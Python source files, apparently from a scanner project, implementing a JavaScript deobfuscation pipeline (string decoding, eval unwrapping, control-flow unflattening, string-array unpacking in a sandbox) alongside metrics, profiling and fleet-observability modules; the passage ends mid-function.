            return "true" if value else "false"
        if value is None:
            return "null"
        if is_number(value):
            return js_number_to_string(value)
        return None

    @staticmethod
    def _number(value: int | float) -> ast.Node | None:
        import math

        if isinstance(value, float):
            if math.isnan(value) or math.isinf(value):
                return None
            if value.is_integer() and abs(value) < 2**53:
                value = int(value)
        return literal(value)


# ------------------------------------------------------------------ members


class SimplifyMembers(Transform):
    """``obj["name"]`` → ``obj.name`` for identifier-shaped string keys.

    Obfuscators (and our string-array inliner one stage later) leave
    property accesses as computed string lookups; restoring dotted form
    restores the Identifier leaves path extraction learned from.
    """

    name = "member"

    def apply(self, program: ast.Program, ctx: NormalizeContext) -> int:
        count = 0
        for node, _parent in postorder(program):
            if (
                node.type == "MemberExpression"
                and node.computed
                and is_literal(node.property)
                and isinstance(node.property.value, str)
                and is_identifier_name(node.property.value)
            ):
                node.property = ast.Identifier(node.property.value)
                node.computed = False
                count += 1
        ctx.report.count(self.name, count)
        return count


# ------------------------------------------------------------------ stage 2


class DecodeStrings(Transform):
    """Decode string-encoding tricks down to plain literals.

    Handles ``\\xNN``/``\\uNNNN`` escape soup (the lexer already decoded
    the value; the rewrite re-emits it minimally), all-literal
    ``String.fromCharCode(…)``, ``parseInt(str[, radix])``,
    ``atob("base64")``, and ``unescape("%68%69")``.
    """

    name = "decode"

    def apply(self, program: ast.Program, ctx: NormalizeContext) -> int:
        count = 0
        for node, parent in postorder(program):
            if node.type == "Literal":
                if (
                    isinstance(node.value, str)
                    and node.raw
                    and ("\\x" in node.raw or "\\u" in node.raw)
                ):
                    node.raw = ""
                    ctx.report.decoded_bytes += len(node.value)
                    count += 1
                continue
            if node.type != "CallExpression" or parent is None:
                continue
            decoded = self._decode_call(node, ctx)
            if decoded is not None and parent.replace_child(node, decoded):
                count += 1
        ctx.report.count(self.name, count)
        return count

    def _decode_call(self, node: ast.Node, ctx: NormalizeContext) -> ast.Node | None:
        callee = node.callee
        args = node.arguments
        if (
            callee.type == "MemberExpression"
            and not callee.computed
            and callee.object.type == "Identifier"
            and callee.object.name == "String"
            and callee.property.type == "Identifier"
            and callee.property.name == "fromCharCode"
        ):
            if not args or not all(
                is_literal(a) and is_number(a.value) for a in args
            ):
                return None
            if len(args) > ctx.max_decoded_len:
                return None
            text = "".join(chr(int(a.value) & 0xFFFF) for a in args)
            ctx.report.decoded_bytes += len(text)
            return literal(text)
        if callee.type != "Identifier":
            return None
        if callee.name == "parseInt":
            if not args or not is_literal(args[0]) or not isinstance(args[0].value, str):
                return None
            radix: int | None = None
            if len(args) >= 2:
                if not is_literal(args[1]) or not is_number(args[1].value):
                    return None
                radix = int(args[1].value)
            if len(args) > 2:
                return None
            value = js_parse_int(args[0].value, radix)
            return literal(value) if value is not None else None
        if len(args) != 1 or not is_literal(args[0]) or not isinstance(args[0].value, str):
            return None
        text = args[0].value
        if callee.name == "atob":
            if len(text) > ctx.max_decoded_len:
                return None
            try:
                decoded = base64.b64decode(text, validate=True).decode("latin-1")
            except (binascii.Error, ValueError):
                return None
            ctx.report.decoded_bytes += len(decoded)
            return literal(decoded)
        if callee.name == "unescape":
            if "%" not in text:
                return None
            decoded = js_unescape(text)
            ctx.report.decoded_bytes += len(decoded)
            return literal(decoded)
        return None


class EvalUnwrap(Transform):
    """Splice ``eval("<code>")`` statements into their enclosing body.

    Only statement-position calls with a fully literal argument unwrap
    (the packer shape); an argument that does not parse stays put.  Runs
    after fold/decode, so ``eval("a" + "b")`` and charcode-packed
    payloads become literal by the time this stage sees them — and the
    spliced statements are themselves normalized on the next pass.
    """

    name = "eval_unwrap"

    def apply(self, program: ast.Program, ctx: NormalizeContext) -> int:
        count = 0
        stack: list[ast.Node] = [program]
        while stack:
            node = stack.pop()
            body = getattr(node, "body", None)
            if node.type in ("Program", "BlockStatement") and isinstance(body, list):
                count += self._unwrap_body(body, ctx)
            stack.extend(node.children())
        ctx.report.count(self.name, count)
        return count

    def _unwrap_body(self, body: list[ast.Node], ctx: NormalizeContext) -> int:
        count = 0
        index = 0
        while index < len(body):
            stmt = body[index]
            payload = self._eval_payload(stmt)
            if payload is None:
                index += 1
                continue
            try:
                unpacked = parse(payload)
            except (JSSyntaxError, RecursionError):
                index += 1
                continue
            body[index : index + 1] = unpacked.body
            ctx.report.decoded_bytes += len(payload)
            count += 1
            # Do not re-scan the spliced statements this pass: nested
            # eval-in-eval unwraps on the next fixpoint iteration.
            index += max(len(unpacked.body), 1)
        return count

    @staticmethod
    def _eval_payload(stmt: ast.Node) -> str | None:
        if stmt.type != "ExpressionStatement":
            return None
        expr = stmt.expression
        if (
            expr.type == "CallExpression"
            and expr.callee.type == "Identifier"
            and expr.callee.name == "eval"
            and len(expr.arguments) == 1
            and is_literal(expr.arguments[0])
            and isinstance(expr.arguments[0].value, str)
        ):
            return expr.arguments[0].value
        return None


# ------------------------------------------------------------------ stage 4


class DeadBranches(Transform):
    """Eliminate branches whose condition is a literal constant.

    ``if (15 === 39) {…}`` junk (after ConstantFold turns the predicate
    into a literal) disappears; ``while (false)`` loops and constant
    conditional expressions collapse to the live side.
    """

    name = "dead_branch"

    def apply(self, program: ast.Program, ctx: NormalizeContext) -> int:
        count = 0
        for node, parent in postorder(program):
            if parent is None:
                continue
            replacement = self._resolve(node)
            if replacement is None:
                continue
            if replacement is _DROP:
                if self._drop_statement(node, parent):
                    count += 1
                elif parent.replace_child(node, ast.EmptyStatement()):
                    count += 1
            elif parent.replace_child(node, replacement):
                count += 1
        ctx.report.count(self.name, count)
        return count

    def _resolve(self, node: ast.Node) -> ast.Node | None:
        type_ = node.type
        if type_ == "IfStatement" and is_literal(node.test):
            taken = node.consequent if truthy(node.test.value) else node.alternate
            return taken if taken is not None else _DROP
        if type_ == "ConditionalExpression" and is_literal(node.test):
            return node.consequent if truthy(node.test.value) else node.alternate
        if type_ == "WhileStatement" and is_literal(node.test) and not truthy(node.test.value):
            return _DROP
        return None

    @staticmethod
    def _drop_statement(node: ast.Node, parent: ast.Node) -> bool:
        body = getattr(parent, "body", None)
        if parent.type in ("Program", "BlockStatement") and isinstance(body, list):
            try:
                body.remove(node)
                return True
            except ValueError:  # pragma: no cover - replace_child fallback
                return False
        return False


#: Sentinel: "remove this statement outright" (vs replace with a node).
_DROP = ast.EmptyStatement()
