"""Control-flow unflattening for switch-dispatch obfuscation.

javascript-obfuscator's control-flow flattening rewrites a straight-line
statement sequence as::

    var SEQ = "2|0|1".split("|"), C = 0;
    while (true) {
      switch (SEQ[C++]) {
        case "0": first();  continue;
        case "1": second(); continue;
        case "2": third();  continue;
      }
      break;
    }

The dispatch string *is* the original execution order, so the rewrite is
exactly invertible: map each position in the dispatch string to its case
body and splice the statements back in order.  :class:`Unflatten`
matches this shape strictly — the sequence/counter pair must be a
two-declarator ``var``, the loop body exactly ``switch`` + ``break``,
every case a single statement (with its ``continue``), the dispatch
string a permutation of the case labels, and the two helper names
referenced nowhere else — so hand-written dispatch loops, which never
thread a ``"…".split("|")`` program counter, fall through untouched.
"""

from __future__ import annotations

from repro.jsparser import ast_nodes as ast

from .astutil import is_literal, postorder
from .transforms import NormalizeContext, Transform


def _match_sequence_decl(decl: ast.Node):
    """``var SEQ = "…".split("|"), C = 0;`` → (seq, counter, dispatch)."""
    if decl.type != "VariableDeclaration" or len(decl.declarations) != 2:
        return None
    head, tail = decl.declarations
    if head.id.type != "Identifier" or tail.id.type != "Identifier":
        return None
    init = head.init
    if not (
        init is not None
        and init.type == "CallExpression"
        and len(init.arguments) == 1
        and is_literal(init.arguments[0])
        and init.arguments[0].value == "|"
        and init.callee.type == "MemberExpression"
        and not init.callee.computed
        and init.callee.property.type == "Identifier"
        and init.callee.property.name == "split"
        and is_literal(init.callee.object)
        and isinstance(init.callee.object.value, str)
    ):
        return None
    counter_init = tail.init
    if not (
        counter_init is not None
        and is_literal(counter_init)
        and isinstance(counter_init.value, (int, float))
        and not isinstance(counter_init.value, bool)
        and counter_init.value == 0
    ):
        return None
    return head.id.name, tail.id.name, init.callee.object.value


def _match_dispatch_loop(loop: ast.Node, seq_name: str, counter_name: str):
    """``while (true) { switch (SEQ[C++]) {…} break; }`` → its cases."""
    if loop.type != "WhileStatement":
        return None
    if not (is_literal(loop.test) and loop.test.value is True):
        return None
    body = loop.body
    if body.type != "BlockStatement" or len(body.body) != 2:
        return None
    switch, last = body.body
    if switch.type != "SwitchStatement" or last.type != "BreakStatement":
        return None
    disc = switch.discriminant
    if not (
        disc.type == "MemberExpression"
        and disc.computed
        and disc.object.type == "Identifier"
        and disc.object.name == seq_name
        and disc.property.type == "UpdateExpression"
        and disc.property.operator == "++"
        and not disc.property.prefix
        and disc.property.argument.type == "Identifier"
        and disc.property.argument.name == counter_name
    ):
        return None
    return switch.cases


def _case_statements(cases: list[ast.Node]) -> dict[str, ast.Node] | None:
    """Label → payload statement, or None when any case deviates."""
    by_label: dict[str, ast.Node] = {}
    for case in cases:
        if case.test is None or not is_literal(case.test):
            return None
        label = case.test.value
        if not isinstance(label, str) or label in by_label:
            return None
        consequent = list(case.consequent)
        if len(consequent) == 2 and consequent[1].type == "ContinueStatement":
            statement = consequent[0]
        elif len(consequent) == 1 and consequent[0].type == "ReturnStatement":
            statement = consequent[0]
        else:
            return None
        by_label[label] = statement
    return by_label or None


def _identifier_uses(root: ast.Node, names: set[str]) -> int:
    return sum(
        1
        for node, _parent in postorder(root)
        if node.type == "Identifier" and node.name in names
    )


class Unflatten(Transform):
    """Invert switch-dispatch control-flow flattening."""

    name = "unflatten"

    def apply(self, program: ast.Program, ctx: NormalizeContext) -> int:
        owners = [program] + [
            node for node, _parent in postorder(program) if node.type == "BlockStatement"
        ]
        count = 0
        for owner in owners:
            if ctx.expired:
                break
            body = owner.body
            index = 0
            while index + 1 < len(body):
                replacement = self._try_invert(program, body[index], body[index + 1])
                if replacement is None:
                    index += 1
                    continue
                body[index : index + 2] = replacement
                ctx.report.count(self.name)
                count += 1
        return count

    def _try_invert(self, program, decl, loop):
        matched = _match_sequence_decl(decl)
        if matched is None:
            return None
        seq_name, counter_name, dispatch = matched
        cases = _match_dispatch_loop(loop, seq_name, counter_name)
        if cases is None:
            return None
        by_label = _case_statements(cases)
        if by_label is None:
            return None
        parts = dispatch.split("|")
        if sorted(parts) != sorted(by_label):
            return None
        # The helpers must be private to the dispatcher: two uses each
        # (declaration + discriminant) and none anywhere else.
        names = {seq_name, counter_name}
        if _identifier_uses(program, names) != _identifier_uses(decl, names) + _identifier_uses(loop, names):
            return None
        return [by_label[part] for part in parts]
