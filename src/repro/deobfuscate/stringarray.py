"""Stage 3: string-array + rotator unpacking (the ``_0x`` shape).

obfuscator.io-style tooling hoists every string literal into one array,
optionally rotates it at load time via an IIFE, and rewrites each usage
as a call through a small decoder function::

    var _0x25e8 = ["push", "cookie", …];
    (function (arr, n) { … arr.push(arr.shift()) … })(_0x25e8, 0x1f4);
    function _0xd4a3(i) { return _0x25e8[i - 0x0]; }
    document[_0xd4a3(1)] = …;

Rather than pattern-matching every rotator variant, the unpacker lifts
the *declaration cluster* (array + rotator + decoders) into a standalone
mini-program — provably self-contained by free-variable analysis — and
executes each ``decoder(literal…)`` call site inside the sandboxed
:mod:`repro.jsinterp` under the engine's op budget.  The resolved string
replaces the call; once every reference is gone the cluster itself is
deleted.  Any interpreter failure (budget, unsupported syntax, a throw)
skips that array — never the scan.
"""

from __future__ import annotations

from repro.jsparser import ast_nodes as ast, generate

from .astutil import SAFE_GLOBALS, free_names, is_literal, literal, postorder, referenced_names
from .transforms import NormalizeContext, Transform


class _ArrayCluster:
    """One candidate array with its rotator and decoder declarations."""

    def __init__(self, name: str, decl: ast.Node):
        self.name = name
        self.decl = decl
        self.rotators: list[ast.Node] = []
        self.decoders: dict[str, ast.Node] = {}  # decoder name -> statement

    @property
    def statements(self) -> list[ast.Node]:
        return [self.decl, *self.rotators, *self.decoders.values()]

    @property
    def bound_names(self) -> set[str]:
        return {self.name, *self.decoders}


class UnpackStringArrays(Transform):
    name = "string_array"

    def apply(self, program: ast.Program, ctx: NormalizeContext) -> int:
        count = 0
        for cluster in self._find_clusters(program):
            if ctx.expired:
                break
            count += self._unpack(program, cluster, ctx)
        ctx.report.count(self.name, count)
        return count

    # ------------------------------------------------------------ detection

    def _find_clusters(self, program: ast.Program) -> list[_ArrayCluster]:
        clusters: dict[str, _ArrayCluster] = {}
        for stmt in program.body:
            name = self._string_array_name(stmt)
            if name is not None and name not in clusters:
                clusters[name] = _ArrayCluster(name, stmt)
        if not clusters:
            return []
        for stmt in program.body:
            for cluster in clusters.values():
                if stmt is cluster.decl:
                    continue
                decoder = self._decoder_name(stmt, cluster.name)
                if decoder is not None:
                    cluster.decoders.setdefault(decoder, stmt)
                elif self._is_rotator(stmt, cluster.name):
                    cluster.rotators.append(stmt)
        return [c for c in clusters.values() if c.decoders and self._self_contained(c)]

    @staticmethod
    def _string_array_name(stmt: ast.Node) -> str | None:
        if stmt.type != "VariableDeclaration" or len(stmt.declarations) != 1:
            return None
        declarator = stmt.declarations[0]
        init = declarator.init
        if (
            declarator.id.type != "Identifier"
            or init is None
            or init.type != "ArrayExpression"
            or len(init.elements) < 2
        ):
            return None
        if not all(
            is_literal(e) and isinstance(e.value, str) for e in init.elements
        ):
            return None
        return declarator.id.name

    @staticmethod
    def _decoder_name(stmt: ast.Node, array_name: str) -> str | None:
        """A function whose body reads the array: the accessor shape."""
        if stmt.type == "FunctionDeclaration" and stmt.id is not None:
            name, fn = stmt.id.name, stmt
        elif (
            stmt.type == "VariableDeclaration"
            and len(stmt.declarations) == 1
            and stmt.declarations[0].id.type == "Identifier"
            and stmt.declarations[0].init is not None
            and stmt.declarations[0].init.type == "FunctionExpression"
        ):
            name, fn = stmt.declarations[0].id.name, stmt.declarations[0].init
        else:
            return None
        return name if array_name in referenced_names(fn.body) else None

    @staticmethod
    def _is_rotator(stmt: ast.Node, array_name: str) -> bool:
        """A top-level IIFE that takes the array (the load-time shuffle)."""
        if stmt.type != "ExpressionStatement":
            return False
        expr = stmt.expression
        if expr.type != "CallExpression" or expr.callee.type != "FunctionExpression":
            return False
        return any(
            a.type == "Identifier" and a.name == array_name for a in expr.arguments
        )

    def _self_contained(self, cluster: _ArrayCluster) -> bool:
        """The cluster must run in the sandbox on its own declarations."""
        bound = cluster.bound_names
        for stmt in cluster.statements:
            if free_names(stmt) - bound - SAFE_GLOBALS:
                return False
        return True

    # ------------------------------------------------------------- unpacking

    def _unpack(self, program: ast.Program, cluster: _ArrayCluster, ctx: NormalizeContext) -> int:
        from .forced import run_bounded  # local: avoids import cycle at init

        cluster_nodes: set[int] = set()
        for stmt in cluster.statements:
            cluster_nodes.add(id(stmt))
            cluster_nodes.update(id(n) for n, _ in postorder(stmt))

        parents: dict[int, ast.Node] = {}
        for node, parent in postorder(program):
            if parent is not None:
                parents[id(node)] = parent

        # Every outside reference must be an inlinable call (or direct
        # literal index) — any other alias could observe the array after
        # we rewrite, so the whole cluster is skipped.
        call_sites: list[tuple[ast.Node, ast.Node]] = []
        for node, parent in postorder(program):
            if id(node) in cluster_nodes or node.type != "Identifier" or parent is None:
                continue
            if node.name not in cluster.bound_names:
                continue
            if id(parent) in cluster_nodes:
                continue
            expr = self._inlinable_expr(node, parent, cluster)
            if expr is None or id(expr) not in parents:
                return 0
            call_sites.append((expr, parents[id(expr)]))
        if not call_sites:
            return 0

        try:
            prelude = generate(ast.Program(cluster.statements))
        except Exception:
            return 0
        memo: dict[str, object] = {}
        count = 0
        replaced: set[int] = set()
        for expr, parent in call_sites:
            if id(expr) in replaced:
                continue  # duplicate (site listed once per identifier)
            if ctx.expired:
                break
            try:
                probe = generate(ast.Program([ast.ExpressionStatement(expr)]))
            except Exception:
                continue
            if probe not in memo:
                outcome, value = run_bounded(prelude + "\n" + probe, ctx)
                if outcome != "ok":
                    ctx.report.note(
                        f"string-array lookup failed ({outcome}) for {cluster.name}"
                    )
                    return count
                memo[probe] = value
            value = memo[probe]
            if not isinstance(value, str):
                continue
            if parent.replace_child(expr, literal(value)):
                replaced.add(id(expr))
                ctx.report.decoded_bytes += len(value)
                count += 1

        # Dead cluster removal: when nothing outside references the
        # array or its decoders any more, the scaffolding goes too.
        if count:
            remaining = self._outside_references(program, cluster, cluster_nodes)
            if not remaining:
                for stmt in cluster.statements:
                    if stmt in program.body:
                        program.body.remove(stmt)
                        count += 1
        return count

    @staticmethod
    def _inlinable_expr(
        node: ast.Node, parent: ast.Node, cluster: _ArrayCluster
    ) -> ast.Node | None:
        """The expression to fold for one outside reference, or None."""
        if (
            parent.type == "CallExpression"
            and parent.callee is node
            and node.name in cluster.decoders
            and parent.arguments
            and all(is_literal(a) for a in parent.arguments)
        ):
            return parent
        if (
            parent.type == "MemberExpression"
            and parent.object is node
            and node.name == cluster.name
            and parent.computed
            and is_literal(parent.property)
        ):
            return parent
        return None

    @staticmethod
    def _outside_references(
        program: ast.Program, cluster: _ArrayCluster, cluster_nodes: set[int]
    ) -> list[ast.Node]:
        return [
            node
            for node, _ in postorder(program)
            if node.type == "Identifier"
            and node.name in cluster.bound_names
            and id(node) not in cluster_nodes
        ]
