"""Observability layer: metric primitives + Prometheus text exposition.

Public surface::

    from repro.obs import MetricsRegistry

    registry = MetricsRegistry()
    requests = registry.counter("repro_http_requests_total", "HTTP requests",
                                labels={"method": "POST", "path": "/scan"})
    requests.inc()
    print(registry.render())  # text/plain; version=0.0.4
"""

from .metrics import (
    DEFAULT_LATENCY_BUCKETS,
    DEFAULT_SIZE_BUCKETS,
    Counter,
    Gauge,
    Histogram,
    MetricsRegistry,
)

__all__ = [
    "Counter",
    "Gauge",
    "Histogram",
    "MetricsRegistry",
    "DEFAULT_LATENCY_BUCKETS",
    "DEFAULT_SIZE_BUCKETS",
]
