"""Observability layer: metrics, tracing, logging, and the fleet plane.

Public surface::

    from repro.obs import MetricsRegistry, Tracer, TraceStore, SpanContext
    from repro.obs import configure_logging, get_logger

    registry = MetricsRegistry()
    requests = registry.counter("repro_http_requests_total", "HTTP requests",
                                labels={"method": "POST", "path": "/scan"})
    requests.inc()
    print(registry.render())  # text/plain; version=0.0.4

    tracer = Tracer(sample_rate=0.1)
    with tracer.start_trace("scan.batch", force=True) as root:
        with root.child("path_extraction"):
            ...
    # finished spans: repro.obs.trace.trace_spans(root)

Fleet-plane surface (what the router's federation loop composes)::

    from repro.obs import parse_exposition, FleetMetrics, TimeseriesRing
    from repro.obs import SLOEngine, default_slos, SamplingProfiler

    families = parse_exposition(scraped_text)   # shard /v1/metrics
    fleet.update("shard-0", families)           # -> /v1/metrics?aggregate=
    ring.append("shard-0", families)            # -> windowed rates, p95
    statuses = slo_engine.evaluate(ring)        # -> /v1/status ok|warn|page
"""

from .fleet import AGGREGATE_MODES, FleetMetrics
from .logging import JsonFormatter, TextFormatter, configure_logging, get_logger
from .metrics import (
    DEFAULT_LATENCY_BUCKETS,
    DEFAULT_SIZE_BUCKETS,
    Counter,
    Exemplar,
    ExpositionError,
    Gauge,
    Histogram,
    MetricsRegistry,
    ParsedFamily,
    ParsedSample,
    parse_exposition,
)
from .profile import ProfileReport, SamplingProfiler
from .slo import SLOEngine, SLOSpec, SLOStatus, default_slos
from .timeseries import (
    HistogramWindow,
    TimeseriesRing,
    bucket_quantile,
    merge_cumulative,
    percentile,
)
from .trace import NullSpan, Span, SpanContext, Tracer, TraceStore, span_tree, trace_spans

__all__ = [
    "Counter",
    "Exemplar",
    "ExpositionError",
    "FleetMetrics",
    "Gauge",
    "Histogram",
    "HistogramWindow",
    "JsonFormatter",
    "MetricsRegistry",
    "NullSpan",
    "ParsedFamily",
    "ParsedSample",
    "ProfileReport",
    "SLOEngine",
    "SLOSpec",
    "SLOStatus",
    "SamplingProfiler",
    "Span",
    "SpanContext",
    "TextFormatter",
    "TimeseriesRing",
    "TraceStore",
    "Tracer",
    "bucket_quantile",
    "configure_logging",
    "default_slos",
    "get_logger",
    "merge_cumulative",
    "parse_exposition",
    "percentile",
    "span_tree",
    "trace_spans",
    "AGGREGATE_MODES",
    "DEFAULT_LATENCY_BUCKETS",
    "DEFAULT_SIZE_BUCKETS",
]
