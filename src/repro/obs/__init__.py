"""Observability layer: metrics, tracing, and structured logging.

Public surface::

    from repro.obs import MetricsRegistry, Tracer, TraceStore, SpanContext
    from repro.obs import configure_logging, get_logger

    registry = MetricsRegistry()
    requests = registry.counter("repro_http_requests_total", "HTTP requests",
                                labels={"method": "POST", "path": "/scan"})
    requests.inc()
    print(registry.render())  # text/plain; version=0.0.4

    tracer = Tracer(sample_rate=0.1)
    with tracer.start_trace("scan.batch", force=True) as root:
        with root.child("path_extraction"):
            ...
    # finished spans: repro.obs.trace.trace_spans(root)
"""

from .logging import JsonFormatter, TextFormatter, configure_logging, get_logger
from .metrics import (
    DEFAULT_LATENCY_BUCKETS,
    DEFAULT_SIZE_BUCKETS,
    Counter,
    Gauge,
    Histogram,
    MetricsRegistry,
)
from .trace import NullSpan, Span, SpanContext, Tracer, TraceStore, span_tree, trace_spans

__all__ = [
    "Counter",
    "Gauge",
    "Histogram",
    "JsonFormatter",
    "MetricsRegistry",
    "NullSpan",
    "Span",
    "SpanContext",
    "TextFormatter",
    "TraceStore",
    "Tracer",
    "configure_logging",
    "get_logger",
    "span_tree",
    "trace_spans",
    "DEFAULT_LATENCY_BUCKETS",
    "DEFAULT_SIZE_BUCKETS",
]
