"""Sampling wall-clock profiler with collapsed-stack output.

``GET /v1/debug/prof?seconds=N`` answers the question "where is the scan
path actually spending its time" without restarting anything: a
background thread wakes at a configurable Hz, snapshots every live
thread's frame via :func:`sys._current_frames`, and folds the stacks
into collapsed form (``root;caller;callee count`` — the flamegraph
interchange format, feedable straight into ``flamegraph.pl`` or
speedscope).

Wall-clock, not CPU: a thread blocked on a lock or a socket is *sampled
where it blocks*, which is exactly what you want when a shard's p99 goes
bad — the hot bucket's exemplar trace says *which* request, the profile
says *which frames*.  Sampling is cooperative-safe (no tracing hooks, no
interpreter flags) and costs only the sampler thread's own wakeups, so
it is safe to run against a serving shard.

Stacks are rooted at the thread name — the scan executor is spawned with
``thread_name_prefix="repro-scan"`` — so executor time separates from
asyncio-loop time at the first fold level, and ``thread_prefix`` can
narrow a capture to just those threads.
"""

from __future__ import annotations

import sys
import threading
import time
from dataclasses import dataclass, field

#: Hard ceilings: a capture is a debugging action, not a monitor.
MAX_SECONDS = 30.0
MAX_HZ = 250.0


@dataclass
class ProfileReport:
    """Folded samples from one capture window."""

    seconds: float
    hz: float
    samples: int = 0
    stacks: dict[str, int] = field(default_factory=dict)

    def collapsed(self) -> str:
        """Collapsed-stack text: header comment, then ``stack count`` lines
        sorted by weight (heaviest first, name as tie-break)."""
        lines = [
            f"# wall-clock profile: {self.samples} samples"
            f" over {self.seconds:g}s at {self.hz:g}Hz"
        ]
        for stack, count in sorted(self.stacks.items(), key=lambda item: (-item[1], item[0])):
            lines.append(f"{stack} {count}")
        return "\n".join(lines) + "\n"


class SamplingProfiler:
    """Samples ``sys._current_frames()`` of live threads at a fixed rate."""

    def __init__(self, hz: float = 99.0, max_seconds: float = MAX_SECONDS):
        if hz <= 0:
            raise ValueError("hz must be positive")
        self.hz = min(float(hz), MAX_HZ)
        self.max_seconds = min(float(max_seconds), MAX_SECONDS)

    def profile(
        self,
        seconds: float,
        hz: float | None = None,
        thread_prefix: str | None = None,
    ) -> ProfileReport:
        """Blocking capture — run it off the event loop (``run_in_executor``).

        ``thread_prefix`` keeps only threads whose name starts with it
        (e.g. ``"repro-scan"`` isolates the scan executor).
        """
        if seconds <= 0:
            raise ValueError("seconds must be positive")
        seconds = min(float(seconds), self.max_seconds)
        rate = min(float(hz), MAX_HZ) if hz and hz > 0 else self.hz
        interval = 1.0 / rate
        report = ProfileReport(seconds=seconds, hz=rate)
        own_id = threading.get_ident()
        deadline = time.monotonic() + seconds
        next_tick = time.monotonic()
        while time.monotonic() < deadline:
            names = {t.ident: t.name for t in threading.enumerate() if t.ident is not None}
            for thread_id, frame in sys._current_frames().items():
                if thread_id == own_id:
                    continue
                name = names.get(thread_id, f"thread-{thread_id}")
                if thread_prefix is not None and not name.startswith(thread_prefix):
                    continue
                stack = _fold(name, frame)
                report.stacks[stack] = report.stacks.get(stack, 0) + 1
                report.samples += 1
            next_tick += interval
            pause = next_tick - time.monotonic()
            if pause > 0:
                time.sleep(pause)
            else:  # fell behind (huge stacks, busy box): resynchronise
                next_tick = time.monotonic()
        return report


def _fold(thread_name: str, frame) -> str:
    """``thread;outermost;...;innermost`` — flamegraph orientation."""
    parts: list[str] = []
    while frame is not None:
        module = frame.f_globals.get("__name__", "?")
        parts.append(f"{module}.{frame.f_code.co_name}")
        frame = frame.f_back
    parts.reverse()
    return ";".join([thread_name] + parts)
