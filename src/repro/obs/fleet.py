"""Fleet-wide metrics federation: merge member expositions into one view.

The router scrapes each shard's ``/v1/metrics``, parses it with
:func:`repro.obs.metrics.parse_exposition`, and hands the families to a
:class:`FleetMetrics`, which can re-render them two ways:

* ``aggregate=sum`` — one fleet-wide series per family: counters and
  histogram ``_sum``/``_count`` series sum across members, histogram
  buckets merge bucket-wise (via
  :func:`repro.obs.timeseries.merge_cumulative`), and exemplars survive
  the merge (last member wins per bucket).  Gauges and untyped families
  cannot be meaningfully summed — a fleet-wide "queue depth 12" hides
  which shard is drowning — so they always carry a ``shard`` label.
* ``aggregate=by-shard`` — every sample from every member, each stamped
  with its ``shard`` label; the raw material for external dashboards.

The store keeps only the **latest** exposition per member (history lives
in :class:`repro.obs.timeseries.TimeseriesRing`, not here) and forgets
members that leave the ring, so output tracks fleet membership exactly.
"""

from __future__ import annotations

import threading

from .metrics import (
    Exemplar,
    ParsedFamily,
    ParsedSample,
    _escape_label_value,
    _format_labels,
    _format_value,
)
from .timeseries import merge_cumulative

AGGREGATE_MODES = ("sum", "by-shard")

#: Family kinds whose series sum meaningfully across members.
_SUMMABLE = ("counter", "histogram")


class FleetMetrics:
    """Latest parsed exposition per fleet member, merged on demand."""

    def __init__(self, shard_label: str = "shard"):
        self.shard_label = shard_label
        self._members: dict[str, dict[str, ParsedFamily]] = {}
        self._lock = threading.Lock()

    # ------------------------------------------------------------- members

    def update(self, member: str, families: dict[str, ParsedFamily]) -> None:
        with self._lock:
            self._members[member] = families

    def forget(self, member: str) -> None:
        with self._lock:
            self._members.pop(member, None)

    @property
    def members(self) -> list[str]:
        with self._lock:
            return sorted(self._members)

    # ----------------------------------------------------------- rendering

    def render(
        self, mode: str = "sum", extra: dict[str, dict[str, ParsedFamily]] | None = None
    ) -> str:
        """The federated exposition in Prometheus text format.

        ``extra`` adds members only for this render — the router passes
        its freshly-parsed local registry as ``{"router": ...}`` so the
        front door's own families are always current, never a scrape old.
        """
        if mode not in AGGREGATE_MODES:
            raise ValueError(f"unknown aggregate mode {mode!r}; expected one of {AGGREGATE_MODES}")
        with self._lock:
            members = dict(self._members)
        if extra:
            members.update(extra)
        # Collate: family name -> (kind, help, member -> samples).
        collated: dict[str, tuple[str, str, dict[str, list[ParsedSample]]]] = {}
        for member in sorted(members):
            for family in members[member].values():
                entry = collated.get(family.name)
                if entry is None:
                    collated[family.name] = (family.kind, family.help, {member: family.samples})
                    continue
                kind, help_text, per_member = entry
                # First member with a real type/help wins the announcement.
                if kind == "untyped" and family.kind != "untyped":
                    kind, help_text = family.kind, family.help
                    collated[family.name] = (kind, help_text, per_member)
                per_member.setdefault(member, []).extend(family.samples)
        lines: list[str] = []
        for name in sorted(collated):
            kind, help_text, per_member = collated[name]
            if help_text:
                lines.append(f"# HELP {name} {help_text}")
            lines.append(f"# TYPE {name} {kind}")
            if mode == "sum" and kind in _SUMMABLE:
                if kind == "histogram":
                    lines.extend(self._render_summed_histogram(name, per_member))
                else:
                    lines.extend(self._render_summed_counter(per_member))
            else:
                lines.extend(self._render_by_shard(per_member))
        return "\n".join(lines) + "\n"

    # -------------------------------------------------------- merge pieces

    def _render_by_shard(self, per_member: dict[str, list[ParsedSample]]) -> list[str]:
        lines = []
        for member in sorted(per_member):
            for sample in per_member[member]:
                labels = dict(sample.labels)
                labels.setdefault(self.shard_label, member)
                lines.append(_sample_line(sample.name, labels, sample.value, sample.exemplar))
        return lines

    def _render_summed_counter(self, per_member: dict[str, list[ParsedSample]]) -> list[str]:
        totals: dict[tuple[str, tuple[tuple[str, str], ...]], float] = {}
        order: list[tuple[str, tuple[tuple[str, str], ...]]] = []
        label_sets: dict[tuple[str, tuple[tuple[str, str], ...]], dict[str, str]] = {}
        for member in sorted(per_member):
            for sample in per_member[member]:
                key = (sample.name, tuple(sorted(sample.labels.items())))
                if key not in totals:
                    totals[key] = 0.0
                    order.append(key)
                    label_sets[key] = dict(sample.labels)
                totals[key] += sample.value
        return [_sample_line(name, label_sets[(name, lk)], totals[(name, lk)]) for name, lk in order]

    def _render_summed_histogram(
        self, name: str, per_member: dict[str, list[ParsedSample]]
    ) -> list[str]:
        """Merge one histogram family bucket-wise across members.

        Series are grouped by their labels minus ``le``; within a group
        each member contributes one cumulative bucket series (merged over
        the bound union) plus its ``_sum``/``_count`` scalars.
        """
        groups: dict[tuple[tuple[str, str], ...], dict[str, str]] = {}
        buckets: dict[tuple[tuple[str, str], ...], list[list[tuple[float, float]]]] = {}
        exemplars: dict[tuple[tuple[str, str], ...], dict[float, Exemplar]] = {}
        sums: dict[tuple[tuple[str, str], ...], float] = {}
        counts: dict[tuple[tuple[str, str], ...], float] = {}
        for member in sorted(per_member):
            member_buckets: dict[tuple[tuple[str, str], ...], dict[float, float]] = {}
            for sample in per_member[member]:
                if sample.name == name + "_bucket" and "le" in sample.labels:
                    labels = {k: v for k, v in sample.labels.items() if k != "le"}
                    key = tuple(sorted(labels.items()))
                    groups.setdefault(key, labels)
                    le = sample.labels["le"]
